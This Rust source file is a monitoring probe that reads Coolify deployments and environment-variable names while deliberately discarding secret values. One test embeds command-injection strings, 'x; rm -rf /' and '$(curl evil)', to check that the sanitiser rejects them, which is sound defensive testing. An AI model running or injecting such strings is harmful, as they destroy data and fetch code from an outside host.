//! The Coolify probe (`[coolify]`, source `coolify`, off unless configured): the application's
//! deployments and which env var names its configuration sets, as the runbook's §3 "Verificar
//! variáveis de ambiente no Coolify" and §6 "Rollback via Coolify" ask an on-call person to look up.
//!
//! Two documented calls of Coolify's API v4 (coolify.io/docs, "API reference"), with a Coolify API
//! token as `Authorization: Bearer` ("Keys & Tokens › API tokens"), made together each poll:
//!
//! - `GET {url}/api/v1/deployments/applications/{uuid}?skip=0&take=10` ("Deployments › List
//!   application deployments", operation `list-deployments-by-app-uuid`): newest first. Coolify
//!   answers `{"count": N, "deployments": [...]}` (its `Application::deployments`); the reference's
//!   schema shows a bare array, which is read too. Each deployment is an `ApplicationDeploymentQueue`
//!   ("Deployments › Get", `get-deployment-by-uuid`): `id`, `deployment_uuid`, `pull_request_id`,
//!   `commit`, `commit_message`, `status` (`queued`, `in_progress`, `finished`, `failed`,
//!   `cancelled-by-user`), `created_at`, `updated_at`, `logs` and more. Only the first are read;
//!   `logs` (build output, which may print anything) is skipped unread.
//! - `GET {url}/api/v1/applications/{uuid}/envs` ("Applications › List Envs",
//!   `list-envs-by-application-uuid`): `[{"uuid", "key", "value", "real_value", "is_preview",
//!   "is_buildtime", "is_runtime", ...}]`. **Only names are kept**: `key` is read; `value` is seen
//!   only as empty or not by a visitor that keeps one bool ([`filled`]); `real_value` and the rest
//!   are skipped. No value reaches an observation, a note, a failure, a log line or a `Debug`.
//!
//! Readings: the *current* deployment is the newest `finished` one (what runs), the *previous* the
//! `finished` one before it (what a rollback goes back to; preview deployments of pull requests are
//! left out); `deploying` is any `queued` or `in_progress` one; `deploy_age_seconds` is the time since
//! the current one finished. Every text a peer wrote is cut to a safe word ([`safe_word`]) before it
//! becomes a reading, since the runbook pastes the commit and deployment into shell commands.
//!
//! **What fails the source** (its evidence lines become unknown): Coolify unreachable or silent
//! within the timeout, a token it refuses (401/403; its message is never quoted), an application it
//! does not know (404: `[coolify] application`), any other status, a redirect (not followed: the token
//! stays with the configured origin), a body that is not Coolify's format or over the cap.

use std::time::Duration;

use reqwest::header::{AUTHORIZATION, HeaderMap, HeaderValue};
use serde::{Deserialize, Deserializer};

use super::http::{bearer, keyed_client, read_capped, reqwest_failure};
use super::{BuildError, Probe};
use crate::clock::Timestamp;
use crate::config::CoolifyConfig;
use crate::locale::{Msg, MsgId};
use crate::observe::{Failure, FailureKind, Key, Observation, Outcome};

/// Largest deployments page read. Ten deployments are a few KiB without their logs, which a token
/// with Coolify's `read:sensitive` adds (hundreds of KiB): this leaves room for them, and no more.
pub const MAX_DEPLOYMENTS_BODY: usize = 4 << 20;

/// Largest envs list read: a hundred variables are well under 100 KiB.
pub const MAX_ENVS_BODY: usize = 1 << 20;

/// Deployments asked for, newest first (Coolify's own default page). One page, never more: the
/// current and previous deployments are among the last few.
const TAKE: u32 = 10;

/// Extra time [`poll_once`](super::poll_once) allows beyond the requests' own timeout.
const POLL_MARGIN: Duration = Duration::from_millis(500);

/// Longest commit or deployment ID kept (a SHA-256 commit is 64 hex digits).
const MAX_WORD: usize = 64;

/// Polls one application of the team's Coolify.
pub struct CoolifyProbe {
    /// Follows no redirect; requests set their own timeout.
    http: reqwest::Client,
    /// `Authorization: Bearer` (sensitive) and `Accept: application/json`.
    headers: HeaderMap,
    /// `{url}/api/v1/deployments/applications/{uuid}?skip=0&take=10`.
    deployments: url::Url,
    /// `{url}/api/v1/applications/{uuid}/envs`.
    envs: url::Url,
    /// `[coolify] env_names`: the names whose presence is read.
    env_names: Vec<String>,
    /// `[coolify] application`, reported as `coolify.application` for the runbook's commands
    /// (validation let only a safe word through).
    application: String,
    /// `[coolify] interval`.
    interval: Duration,
    /// Bound on each request (they run together, so on the poll's requests as well).
    timeout: Duration,
}

impl std::fmt::Debug for CoolifyProbe {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("CoolifyProbe")
            .field("deployments", &self.deployments.as_str())
            .finish_non_exhaustive()
    }
}

impl CoolifyProbe {
    /// A probe of `config`'s application; fails when the token cannot be a header value (the error
    /// does not quote it) or the client cannot be built.
    pub fn new(config: &CoolifyConfig) -> Result<Self, BuildError> {
        let mut headers = HeaderMap::new();
        headers.insert(AUTHORIZATION, bearer(&config.token, "coolify.token")?);
        headers.insert(
            reqwest::header::ACCEPT,
            HeaderValue::from_static("application/json"),
        );
        let base = config.url.as_str().trim_end_matches('/');
        let app = &config.application;
        let parse = |path: String| {
            url::Url::parse(&format!("{base}{path}"))
                .map_err(|e| BuildError(format!("coolify.url: {e}")))
        };
        Ok(Self {
            http: keyed_client([config.timeout])?,
            headers,
            deployments: parse(format!(
                "/api/v1/deployments/applications/{app}?skip=0&take={TAKE}"
            ))?,
            envs: parse(format!("/api/v1/applications/{app}/envs"))?,
            env_names: config.env_names.clone(),
            application: config.application.clone(),
            interval: config.interval,
            timeout: config.timeout,
        })
    }

    /// One GET, its body read up to `cap`; every way it can go wrong is a [`Failure`] worded here.
    async fn get(&self, url: &url::Url, cap: usize, what: MsgId) -> Result<Vec<u8>, Failure> {
        let response = self
            .http
            .get(url.clone())
            .headers(self.headers.clone())
            .timeout(self.timeout)
            .send()
            .await
            .map_err(|e| {
                let f = reqwest_failure(&e);
                Failure::said(
                    f.kind,
                    Msg::new(MsgId::CoolifyUnreachable).msg("failure", f.reader_words()),
                )
            })?;
        let status = response.status();
        if !status.is_success() {
            // Coolify's message is never quoted: ours carry no token, but a proxy's might echo it.
            return Err(refusal(status, what));
        }
        read_capped(response, cap).await
    }
}

/// A status Coolify answered instead of `what`, with the fix.
fn refusal(status: reqwest::StatusCode, what: MsgId) -> Failure {
    let id = match status.as_u16() {
        300..=399 => MsgId::CoolifyRedirected,
        // Coolify answers 400 "Invalid token." for a token of no team.
        400 | 401 | 403 => MsgId::CoolifyRefusedToken,
        404 => MsgId::CoolifyUnknownApp,
        _ => MsgId::CoolifyNoAnswer,
    };
    Failure::said(
        FailureKind::Status,
        Msg::new(id)
            .arg("status", status.as_u16())
            .msg("what", Msg::new(what)),
    )
}

impl Probe for CoolifyProbe {
    /// One source for both calls: the runbook's `source_failing = "coolify"` and the doctor's
    /// blind spots name it, and either call failing fails it (half a reading is not reported).
    fn source(&self) -> &str {
        "coolify"
    }

    fn interval(&self) -> Duration {
        self.interval
    }

    /// The requests' own timeout plus a margin, so the probe's own words about a hang (which call,
    /// which fix) are the ones reported, not the poll's generic bound.
    fn timeout(&self) -> Duration {
        self.timeout + POLL_MARGIN
    }

    /// Both calls at once (the poll takes one timeout, not two); the deployments' readings, the
    /// application's UUID for the commands, and one `env_set` per configured name.
    async fn poll(&mut self, now: Timestamp) -> Result<Vec<Observation>, Failure> {
        let (deployments, envs) = tokio::join!(
            self.get(
                &self.deployments,
                MAX_DEPLOYMENTS_BODY,
                MsgId::CoolifyDeploymentsOf
            ),
            self.get(&self.envs, MAX_ENVS_BODY, MsgId::CoolifyEnvsOf),
        );
        let deployments = parse_deployments(&deployments?)?;
        let names = parse_env_names(&envs?)?;
        let mut out = observe_deployments(&deployments, now);
        out.push(word_reading(
            "coolify.application",
            Some(&self.application),
            MsgId::CoolifyNotSafe,
        ));
        out.extend(observe_envs(&names, &self.env_names));
        Ok(out)
    }
}

/// The deployments answer: Coolify's `{"count", "deployments"}`, or the bare array its reference
/// shows.
#[derive(Deserialize)]
#[serde(untagged)]
enum DeploymentsAnswer {
    /// What Coolify answers (`Application::deployments`): the page and its total count.
    Paged { deployments: Vec<Deployment> },
    /// What the API reference's schema shows.
    List(Vec<Deployment>),
}

/// The fields of an `ApplicationDeploymentQueue` the probe reads; the rest (`logs` among them) is
/// skipped unread.
#[derive(Debug, Clone, Deserialize)]
struct Deployment {
    /// What Coolify's UI and a rollback name the deployment by (cut to a safe word when read).
    #[serde(default)]
    deployment_uuid: Option<String>,
    /// Non-zero for a pull request's preview, which is never the application's current one.
    #[serde(default)]
    pull_request_id: Option<i64>,
    /// The git commit it built (cut to a safe word: the runbook pastes it into commands).
    #[serde(default)]
    commit: Option<String>,
    /// `queued`, `in_progress`, `finished`, `failed` or `cancelled-by-user`.
    status: String,
    /// When it was queued.
    #[serde(default)]
    created_at: Option<String>,
    /// The row's last change: its finishing, in versions without `finished_at`.
    #[serde(default)]
    updated_at: Option<String>,
    /// Newer Coolify versions stamp the end of a deployment.
    #[serde(default)]
    finished_at: Option<String>,
}

impl Deployment {
    /// When it took effect: `finished_at`, else `updated_at` (Coolify's last change of the row, its
    /// finishing), else `created_at`; Laravel's ISO 8601 text (or `Y-m-d H:i:s`, read as UTC).
    fn finished(&self) -> Option<Timestamp> {
        [&self.finished_at, &self.updated_at, &self.created_at]
            .into_iter()
            .flatten()
            .find_map(|t| parse_time(t))
    }

    /// A deployment of the application itself, not a pull request's preview.
    fn is_main(&self) -> bool {
        self.pull_request_id.unwrap_or(0) == 0
    }
}

/// A Laravel time as a [`Timestamp`].
fn parse_time(text: &str) -> Option<Timestamp> {
    let t = humantime::parse_rfc3339_weak(text.trim()).ok()?;
    let ms = t.duration_since(std::time::UNIX_EPOCH).ok()?.as_millis();
    Some(Timestamp::from_unix_millis(i64::try_from(ms).ok()?))
}

/// The application's deployments, newest first, or why the body is not Coolify's list.
fn parse_deployments(body: &[u8]) -> Result<Vec<Deployment>, Failure> {
    match serde_json::from_slice::<DeploymentsAnswer>(body) {
        Ok(DeploymentsAnswer::Paged { deployments } | DeploymentsAnswer::List(deployments)) => {
            Ok(deployments)
        }
        Err(_) => Err(malformed(body, MsgId::CoolifyDeploymentsList)),
    }
}

/// One env of the list: its name, whether it is a preview's, and whether its value is empty.
#[derive(Deserialize)]
struct Env {
    /// The variable's name: the only text kept.
    key: String,
    /// A preview deployment's variable, which the application itself does not run with.
    #[serde(default)]
    is_preview: Option<bool>,
    /// `Some(false)`: set to the empty string; `None`: no value shown (a token without
    /// `read:sensitive`), the name's presence is what counts. Never the value itself.
    #[serde(default, deserialize_with = "filled")]
    value: Option<bool>,
}

/// A JSON value seen only as "a non-empty string or not": the string is looked at in place by the
/// visitor and never kept, so no value outlives the parse.
fn filled<'de, D: Deserializer<'de>>(d: D) -> Result<Option<bool>, D::Error> {
    struct Filled;
    impl serde::de::Visitor<'_> for Filled {
        type Value = Option<bool>;
        fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            f.write_str("a string or null")
        }
        fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<Self::Value, E> {
            Ok(Some(!v.is_empty()))
        }
        fn visit_unit<E: serde::de::Error>(self) -> Result<Self::Value, E> {
            Ok(None)
        }
        fn visit_none<E: serde::de::Error>(self) -> Result<Self::Value, E> {
            Ok(None)
        }
        // Whatever else Coolify might send (a number, a bool) is a value: set.
        fn visit_i64<E: serde::de::Error>(self, _: i64) -> Result<Self::Value, E> {
            Ok(Some(true))
        }
        fn visit_u64<E: serde::de::Error>(self, _: u64) -> Result<Self::Value, E> {
            Ok(Some(true))
        }
        fn visit_f64<E: serde::de::Error>(self, _: f64) -> Result<Self::Value, E> {
            Ok(Some(true))
        }
        fn visit_bool<E: serde::de::Error>(self, _: bool) -> Result<Self::Value, E> {
            Ok(Some(true))
        }
    }
    d.deserialize_any(Filled)
}

/// The names the application's configuration sets (non-preview, not empty), or why the body is
/// not Coolify's envs list. The values are gone when this returns (see [`filled`]).
fn parse_env_names(body: &[u8]) -> Result<Vec<String>, Failure> {
    let envs: Vec<Env> =
        serde_json::from_slice(body).map_err(|_| malformed(body, MsgId::CoolifyEnvsList))?;
    Ok(envs
        .into_iter()
        .filter(|e| e.is_preview != Some(true) && e.value != Some(false))
        .map(|e| e.key)
        .collect())
}

/// A body that is not `what`. serde's reason is left out: it can quote the text it stopped at,
/// which in an envs list may be a value.
fn malformed(body: &[u8], what: MsgId) -> Failure {
    let html = body
        .iter()
        .find(|b| !b.is_ascii_whitespace())
        .is_some_and(|b| *b == b'<');
    let id = if html {
        MsgId::HtmlNot
    } else {
        MsgId::AnswerNot
    };
    Failure::said(
        FailureKind::Malformed,
        Msg::new(id).msg("what", Msg::new(what)),
    )
}

/// `text` when it is a safe word (letters, digits, `.`, `_`, `-`; at most [`MAX_WORD`]), else
/// `None`: a commit or a deployment ID pasted into the runbook's shell commands cannot carry a
/// space, a quote or a `;` from the peer.
fn safe_word(text: &str) -> Option<&str> {
    let t = text.trim();
    let ok = !t.is_empty()
        && t.len() <= MAX_WORD
        && t.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
    ok.then_some(t)
}

/// A text reading from a peer's word, or no data saying why.
fn word_reading(name: &'static str, word: Option<&str>, missing: MsgId) -> Observation {
    let key = Key::new(name);
    match word.and_then(safe_word) {
        Some(w) => Observation::text(key, w),
        None => Observation::new(key, Outcome::NoData(Msg::new(missing))),
    }
}

/// The deployments' readings at `now`: the one place this probe words them.
fn observe_deployments(all: &[Deployment], now: Timestamp) -> Vec<Observation> {
    let main: Vec<&Deployment> = all.iter().filter(|d| d.is_main()).collect();
    let mut finished = main.iter().filter(|d| d.status == "finished");
    let (current, previous) = (finished.next(), finished.next());
    let running = main
        .iter()
        .find(|d| matches!(d.status.as_str(), "queued" | "in_progress"));
    let mut out = Vec::with_capacity(8);
    let deploying = Observation::boolean(Key::new("coolify.deploying"), running.is_some());
    out.push(
        match running.and_then(|d| d.deployment_uuid.as_deref().and_then(safe_word)) {
            Some(id) => deploying.with_note(Msg::new(MsgId::CoolifyDeployment).arg("id", id)),
            None => deploying,
        },
    );
    out.push(word_reading(
        "coolify.last_status",
        main.first().map(|d| d.status.as_str()),
        MsgId::CoolifyNoDeployment,
    ));
    // The same fact as a yes/no, which the runbook's failed-deploy rule reads (Coolify's status
    // words are English in every email).
    out.push(Observation::boolean(
        Key::new("coolify.last_failed"),
        main.first().is_some_and(|d| d.status == "failed"),
    ));
    let none = MsgId::CoolifyNoFinished;
    let age = current.and_then(|d| d.finished()).map(|t| {
        let ms = now.as_unix_millis().saturating_sub(t.as_unix_millis());
        (ms.max(0) as f64) / 1000.0
    });
    out.push(match age {
        Some(secs) => Observation::number(Key::new("coolify.deploy_age_seconds"), secs),
        None => Observation::new(
            Key::new("coolify.deploy_age_seconds"),
            Outcome::NoData(Msg::new(none)),
        ),
    });
    for (d, id, commit, missing) in [
        (
            current,
            "coolify.current_deployment",
            "coolify.current_commit",
            none,
        ),
        (
            previous,
            "coolify.previous_deployment",
            "coolify.previous_commit",
            MsgId::CoolifyNoEarlier,
        ),
    ] {
        out.push(word_reading(
            id,
            d.and_then(|d| d.deployment_uuid.as_deref()),
            missing,
        ));
        out.push(word_reading(
            commit,
            d.and_then(|d| d.commit.as_deref()),
            missing,
        ));
    }
    out
}

/// `coolify.env_set{var}` for each configured name.
fn observe_envs(set: &[String], wanted: &[String]) -> Vec<Observation> {
    wanted
        .iter()
        .map(|name| {
            Observation::boolean(
                Key::new("coolify.env_set").with("var", name.clone()),
                set.iter().any(|s| s == name),
            )
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::observe::Value;

    /// Two deployments as Coolify lists them (newest first), a preview's among them.
    const DEPLOYMENTS: &str = r#"{"count":4,"deployments":[
      {"id":41,"application_id":"7","deployment_uuid":"q0wc8k4","pull_request_id":0,"force_rebuild":false,"commit":"a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2","status":"in_progress","is_webhook":true,"is_api":false,"created_at":"2026-12-07T01:00:00.000000Z","updated_at":"2026-12-07T01:00:05.000000Z","logs":"[{\"output\":\"JWT_SECRET=do-not-keep\"}]","commit_message":"feat: x"},
      {"id":40,"application_id":"7","deployment_uuid":"pr12dep","pull_request_id":12,"commit":"ffff","status":"finished","created_at":"2026-12-07T00:50:00.000000Z","updated_at":"2026-12-07T00:52:00.000000Z"},
      {"id":39,"application_id":"7","deployment_uuid":"m2kq9x","pull_request_id":0,"commit":"9f8e7d6c","status":"finished","created_at":"2026-12-07T00:30:00.000000Z","updated_at":"2026-12-07T00:40:00.000000Z"},
      {"id":38,"application_id":"7","deployment_uuid":"h7pz3a","pull_request_id":0,"commit":"1234abcd","status":"finished","created_at":"2026-12-01T10:00:00.000000Z","updated_at":"2026-12-01T10:03:00.000000Z"}
    ]}"#;

    fn value(obs: &[Observation], name: &str) -> Option<Value> {
        obs.iter()
            .find(|o| o.key.name == name)
            .and_then(|o| match &o.outcome {
                Outcome::Value(v) => Some(v.clone()),
                _ => None,
            })
    }

    fn text(s: &str) -> Option<Value> {
        Some(Value::Text(s.into()))
    }

    #[test]
    fn reads_current_previous_and_the_deploy_in_progress_skipping_previews() {
        let now = parse_time("2026-12-07T01:00:00Z").unwrap();
        let obs = observe_deployments(&parse_deployments(DEPLOYMENTS.as_bytes()).unwrap(), now);
        assert_eq!(value(&obs, "coolify.deploying"), Some(Value::Bool(true)));
        assert_eq!(value(&obs, "coolify.last_status"), text("in_progress"));
        assert_eq!(value(&obs, "coolify.last_failed"), Some(Value::Bool(false)));
        assert_eq!(value(&obs, "coolify.current_deployment"), text("m2kq9x"));
        assert_eq!(value(&obs, "coolify.current_commit"), text("9f8e7d6c"));
        assert_eq!(value(&obs, "coolify.previous_deployment"), text("h7pz3a"));
        assert_eq!(value(&obs, "coolify.previous_commit"), text("1234abcd"));
        // Finished at 00:40, twenty minutes before `now`.
        assert_eq!(
            value(&obs, "coolify.deploy_age_seconds"),
            Some(Value::Number(1200.0))
        );
    }

    #[test]
    fn the_bare_array_of_the_reference_and_laravel_plain_times_are_read() {
        let body = br#"[{"deployment_uuid":"a1","commit":"c1","status":"finished","created_at":"2026-12-07 00:00:00"}]"#;
        let now = parse_time("2026-12-07T00:01:00Z").unwrap();
        let obs = observe_deployments(&parse_deployments(body).unwrap(), now);
        assert_eq!(value(&obs, "coolify.current_commit"), text("c1"));
        assert_eq!(
            value(&obs, "coolify.deploy_age_seconds"),
            Some(Value::Number(60.0))
        );
        assert_eq!(value(&obs, "coolify.previous_commit"), None);
        assert_eq!(value(&obs, "coolify.deploying"), Some(Value::Bool(false)));
    }

    #[test]
    fn a_peer_cannot_put_a_shell_command_into_a_commit() {
        let body =
            br#"[{"deployment_uuid":"x; rm -rf /","commit":"$(curl evil)","status":"finished"}]"#;
        let obs = observe_deployments(
            &parse_deployments(body).unwrap(),
            Timestamp::from_unix_millis(0),
        );
        assert_eq!(value(&obs, "coolify.current_commit"), None);
        assert_eq!(value(&obs, "coolify.current_deployment"), None);
    }

    #[test]
    fn env_names_are_kept_and_values_are_not() {
        let body = br#"[
          {"id":1,"uuid":"e1","key":"JWT_SECRET","value":"s3cr3t-value","real_value":"s3cr3t-value","is_preview":false,"is_buildtime":false},
          {"id":2,"uuid":"e2","key":"EMPTY_ONE","value":"","real_value":"","is_preview":false},
          {"id":3,"uuid":"e3","key":"PREVIEW_ONLY","value":"x","is_preview":true},
          {"id":4,"uuid":"e4","key":"HIDDEN","is_preview":false}
        ]"#;
        let names = parse_env_names(body).unwrap();
        assert_eq!(names, ["JWT_SECRET", "HIDDEN"]);
        let wanted = ["JWT_SECRET", "EMPTY_ONE", "PREVIEW_ONLY", "MISSING"].map(String::from);
        let obs = observe_envs(&names, &wanted);
        let shown = format!("{obs:?}");
        assert!(!shown.contains("s3cr3t"), "{shown}");
        let set: Vec<bool> = obs
            .iter()
            .map(|o| matches!(o.outcome, Outcome::Value(Value::Bool(true))))
            .collect();
        assert_eq!(set, [true, false, false, false]);
    }

    #[test]
    fn a_malformed_envs_list_quotes_nothing_of_it() {
        let body = br#"[{"key":"JWT_SECRET","value":"s3cr3t-value","is_preview":"s3cr3t-value"}]"#;
        let f = parse_env_names(body).unwrap_err();
        assert_eq!(f.kind, FailureKind::Malformed);
        assert!(!f.detail.contains("s3cr3t"), "{}", f.detail);
        let html = parse_env_names(b"<html>login</html>").unwrap_err();
        assert!(html.detail.contains("HTML"), "{}", html.detail);
    }

    proptest! {
        #![proptest_config(crate::mutate::cases(256))]

        /// Any body is a list or a short refusal that quotes none of it.
        #[test]
        fn prop_any_body_is_read_or_refused_without_quoting(body in prop::collection::vec(any::<u8>(), 0..400)) {
            for result in [parse_deployments(&body).map(|_| ()), parse_env_names(&body).map(|_| ())] {
                if let Err(f) = result {
                    prop_assert_eq!(f.kind, FailureKind::Malformed);
                    prop_assert!(f.detail.len() < 80, "{}", f.detail);
                }
            }
        }

        /// Every reading of a peer's word is a safe word or no data.
        #[test]
        fn prop_readings_are_safe_words(commit in ".{0,80}", id in ".{0,80}") {
            let d = Deployment {
                deployment_uuid: Some(id),
                pull_request_id: None,
                commit: Some(commit),
                status: "finished".into(),
                created_at: None,
                updated_at: None,
                finished_at: None,
            };
            for o in observe_deployments(&[d], Timestamp::from_unix_millis(0)) {
                if let Outcome::Value(Value::Text(t)) = &o.outcome {
                    prop_assert!(safe_word(t).is_some(), "{}", t);
                }
            }
        }
    }
}
